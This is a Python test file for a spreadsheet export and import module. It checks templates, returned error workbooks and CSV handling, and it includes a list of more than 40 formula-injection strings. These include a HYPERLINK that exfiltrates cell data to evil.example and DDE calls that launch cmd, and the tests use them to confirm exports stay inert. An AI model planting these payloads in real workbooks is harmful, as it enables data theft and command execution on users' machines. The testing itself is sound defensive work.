"""Workbooks going out: templates, uploads given back, lists; read back by another program."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from defusedxml.ElementTree import fromstring
from django.utils import translation

from bangfu.foundation.importing.api import (
    ColumnKind,
    TableColumn,
    open_upload,
    read_workbook,
    write_error_workbook,
    write_table,
    write_template,
)
from bangfu.kernel.problems import Place, Problem
from bangfu.rules.layout import load_layout
from importing.workbooks import HOUSES, PEOPLE, small_layout, workbook

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "=IMPORTXML(A1)",
    "=WEBSERVICE(A1)",
    "%0A=1",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "=A1",
    "-A1",
    "+A1",
    "@A1",
    "=",
    "+",
    "-",
    "@",
    "==",
    "=-1",
    "=+cmd",
    "{=1+1}",
    "#REF!",
    "_x003D_1+1",
    "=\u20281",
    "\x1f=1",
    "=1\x00",
    "=" + "A" * 40_000,
    "https://evil.example/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
]


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_an_export_holds_no_formula_and_no_link_whatever_the_texts_are() -> None:
    assert len(ATTACKS) >= 40
    data = write_table(
        "名单", [TableColumn("备注"), TableColumn("=1+1")], [[each, each] for each in ATTACKS]
    )
    with zipfile.ZipFile(io.BytesIO(data)) as container:
        markup = b"".join(
            container.read(name) for name in container.namelist() if "worksheets" in name
        )
    assert b"<f" not in markup
    assert b"hyperlink" not in markup
    kinds = {cell.data_type for row in opened(data)["名单"].iter_rows() for cell in row}
    assert kinds == {"s"}


def test_a_text_stays_a_text_when_somebody_edits_its_cell() -> None:
    cell = opened(write_table("表", [TableColumn("号")], [["=1+1"]]))["表"]["A2"]
    assert (cell.number_format, cell.quotePrefix) == ("@", True)


def test_texts_come_out_as_they_went_in() -> None:
    texts = ["519900199001010010", "00123", "=1+1", "-5", "张三 ", "1e5", "2026-01-02", "TRUE"]
    sheet = opened(write_table("表", [TableColumn("号")], [[each] for each in texts]))["表"]
    assert [cell.value for cell in sheet["A"][1:]] == texts


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    columns = [
        TableColumn("金额", ColumnKind.HUNDREDTHS),
        TableColumn("人数", ColumnKind.WHOLE),
        TableColumn("日期", ColumnKind.DAY),
        TableColumn("时刻", ColumnKind.MOMENT),
        TableColumn("文字"),
    ]
    moment = datetime(2026, 1, 1, 16, 30, tzinfo=UTC)
    rows = [[-123456, -3, date(2026, 1, 2), moment, None], [None] * 5]
    sheet = opened(write_table("表", columns, rows, about=[("导出人", "甲")]))
    cells = sheet["表"][2]
    assert [cell.value for cell in cells] == [
        -1234.56,
        -3,
        datetime.fromisoformat("2026-01-02"),
        datetime.fromisoformat("2026-01-02T00:30"),
        None,
    ]
    assert [cell.value for cell in sheet["说明"][1]] == ["导出人", "甲"]


def test_titles_that_excel_does_not_allow_are_changed() -> None:
    names = opened(write_table("a/b:c[1]*?" + "长" * 40, [TableColumn("x")], [])).sheetnames
    assert len(names[0]) <= 31
    assert not set(names[0]) & set("/:[]*?\\")


def test_a_row_of_another_width_than_the_headers_is_an_error() -> None:
    with pytest.raises(ValueError, match="longer than"):
        write_table("表", [TableColumn("a")], [[1, 2]])


@pytest.mark.parametrize("language", ["zh", "en"])
def test_a_filled_in_template_is_read_as_it_is(language: Any) -> None:
    layout = load_layout()
    book = opened(write_template(layout, language))
    for entity, items in layout.sheet_items().items():
        sheet = book[layout.sheets[entity][language]]
        for column, item in enumerate(items, start=1):
            assert sheet.cell(1, column).value == item.label(language)
            codes = layout.lists.get("flag" if item.type == "flag" else item.list)
            filled: Any = {
                "count": item.min or 1,
                "fen": 1.5,
                "mu": 2.5,
                "sqm": 97.65,
                "km": 1.66,
                "date": "2026-01-02",
                "month": "202601",
                "division": "511921100201",
            }.get(item.type, "甲")
            sheet.cell(2, column).value = codes.codes[0].label(language) if codes else filled
    out = io.BytesIO()
    book.save(out)
    found = read_workbook(open_upload(("填好.xlsx", out.getvalue())), layout=layout)
    assert [each.code for each in found.problems] == []
    assert {entity: len(table) for entity, table in found.tables.items()} == {
        "household": 1,
        "member": 1,
    }
    assert len(found.tables["household"].record(0)) == len(layout.items["household"])


def test_a_template_offers_every_code_and_formats_numbers_as_texts() -> None:
    layout = load_layout()
    book = opened(write_template(layout))
    sheet = book["家庭成员"]
    rules = {str(rule.sqref): rule for rule in sheet.data_validations.dataValidation}
    column = [item.name for item in layout.items["member"]].index("relation")
    letter = openpyxl.utils.get_column_letter(column + 1)
    source = rules[f"{letter}2:{letter}100001"].formula1.replace("$", "").split("!")[1]
    labels = [cell.value for (cell,) in book["代码表"][source]]
    assert labels == [code.zh for code in layout.lists["relation"].codes]
    column = [item.name for item in layout.items["member"]].index("id_number")
    shapes = sheet.column_dimensions.values()
    assert next(each for each in shapes if each.min <= column + 1 <= each.max).number_format == "@"
    assert book.sheetnames == ["农户信息", "家庭成员", "代码表", "填写说明"]


BAD_PEOPLE = [
    ["户编号", "证件号码", "性别"],
    ["H1", 519900199001010000.0, "男性"],
    ["H1", "519900199001010010", None],
    ["　H2", "00123", "男"],
]


def given_back(language: str = "zh-hans") -> tuple[Any, Any]:
    def finish(_: Any, sheets: dict[str, Any]) -> None:
        sheets["农户"].write_formula(2, 2, "=600*2", None, 1200)

    houses = [HOUSES[0], ["=H1", "张三", date(2026, 1, 2)], ["H2", "李四", 0]]
    data = workbook(
        {"农户": houses, "成员": BAD_PEOPLE},
        finish=finish,
        strings_to_formulas=False,
        default_date_format="yyyy-mm-dd",
    )
    upload = open_upload(("某县.xlsx", data))
    found = read_workbook(upload, layout=small_layout())
    place = Place("某县.xlsx", "成员", 3, 2, "证件号码")
    found.problems.add(Problem("importing.digits_lost", place, {"header": "证件号码"}))
    found.problems.add(Problem("importing.no_rows", Place("某县.xlsx", "成员")))
    with translation.override(language):
        return opened(write_error_workbook(upload, found.problems)), found


def test_the_same_workbook_comes_back_with_every_cell_as_it_was() -> None:
    book, _ = given_back()
    assert book.sheetnames == ["农户", "成员", "问题清单"]
    people = [[cell.value for cell in row[:3]] for row in book["成员"].iter_rows()]
    assert people == [[each or None for each in row] for row in BAD_PEOPLE]
    assert {cell.data_type for row in book["农户"].iter_rows() for cell in row} <= {"s", "n", "d"}
    assert book["农户"]["A2"].value == "=H1"
    assert book["农户"]["C2"].value == datetime.fromisoformat("2026-01-02")
    assert book["农户"]["C3"].value == 1200


def test_bad_cells_are_filled_and_explained_beside_the_row() -> None:
    book, _ = given_back()
    sheet = book["成员"]
    red, yellow, none = sheet["B2"].fill, sheet["A4"].fill, sheet["A2"].fill
    assert (red.fgColor.rgb, yellow.fgColor.rgb, none.fill_type) == ("FFFFC7CE", "FFFFEB9C", None)
    assert sheet["D1"].value == "导入问题说明"
    lines = sheet["D2"].value.split("\n")
    assert lines[0].startswith(
        "“证件号码”以数字格式存放，末尾几位已经丢失。Excel 只保留 15 位数字。"
    )
    assert lines[1] == "“性别”中的“男性”不在可选项中。可以填写：男、女。"
    assert "末尾几位已经丢失" in sheet["D3"].value
    listed = [row[1].value for row in book["问题清单"].iter_rows(min_row=2)]
    assert "表中没有数据行" in listed


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_a_returned_workbook_can_be_put_right_and_given_in_again(language: str) -> None:
    book, _ = given_back(language)
    book["成员"]["B2"].value = "519900199001010010"
    book["成员"]["C2"].value = "男"
    book["农户"]["C2"].value = 1
    book["农户"]["C2"].number_format = "0.00"
    out = io.BytesIO()
    book.save(out)
    found = read_workbook(open_upload(("改好.xlsx", out.getvalue())), layout=small_layout())
    assert [each.code for each in found.problems] == ["importing.normalised"]
    assert len(found.tables["person"]) == 3


def test_csv_comes_back_as_a_workbook() -> None:
    people = "户编号,证件号码,性别\nH1,00123,男性\n".encode("gb18030")
    houses = "户编号,户主姓名,收入（元）\nH1,=1+1,5\n".encode()
    upload = open_upload(("成员.csv", people), ("农户.csv", houses))
    found = read_workbook(upload, layout=small_layout())
    book = opened(write_error_workbook(upload, found.problems))
    assert [cell.value for cell in book["成员"][2]][:3] == ["H1", "00123", "男性"]
    assert book["农户"]["B2"].value == "=1+1"
    assert book["农户"]["B2"].data_type == "s"


def test_an_untouched_honest_workbook_comes_back_without_marks() -> None:
    upload = open_upload(("x.xlsx", workbook({"农户": HOUSES, "成员": PEOPLE})))
    found = read_workbook(upload, layout=small_layout())
    book = opened(write_error_workbook(upload, found.problems))
    cells = [cell for row in book["农户"].iter_rows() for cell in row]
    assert {cell.fill.fill_type for cell in cells[:3] + cells[4:]} == {None}
    assert book["问题清单"].max_row == 1


def test_the_parts_of_a_written_workbook_are_well_formed_and_in_the_standards_order() -> None:
    """Excel repairs, with a warning, what stands in another order."""
    data = write_table("表", [TableColumn("a")], [["x"]], about=[("b", "c")])
    with zipfile.ZipFile(io.BytesIO(data)) as container:
        parts = {name: fromstring(container.read(name)) for name in container.namelist()}
    sheet = [each.tag.rpartition("}")[2] for each in parts["xl/worksheets/sheet1.xml"]]
    assert sheet == ["sheetViews", "cols", "sheetData", "autoFilter"]
    styles = [each.tag.rpartition("}")[2] for each in parts["xl/styles.xml"]]
    assert styles == [
        "numFmts",
        "fonts",
        "fills",
        "borders",
        "cellStyleXfs",
        "cellXfs",
        "cellStyles",
    ]
    for each in parts["xl/styles.xml"]:
        assert each.get("count") == str(len(each))


def test_exports_and_returned_workbooks_leave_nothing_on_the_disk(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a temporary file")

    monkeypatch.setattr("tempfile.mkstemp", refuse)
    monkeypatch.setattr("tempfile.TemporaryFile", refuse)
    write_table("表", [TableColumn("号")], [["519900199001010010"]] * 5_000)
    upload = open_upload(("x.xlsx", workbook()))
    found = read_workbook(upload, layout=small_layout())
    assert write_error_workbook(upload, found.problems)
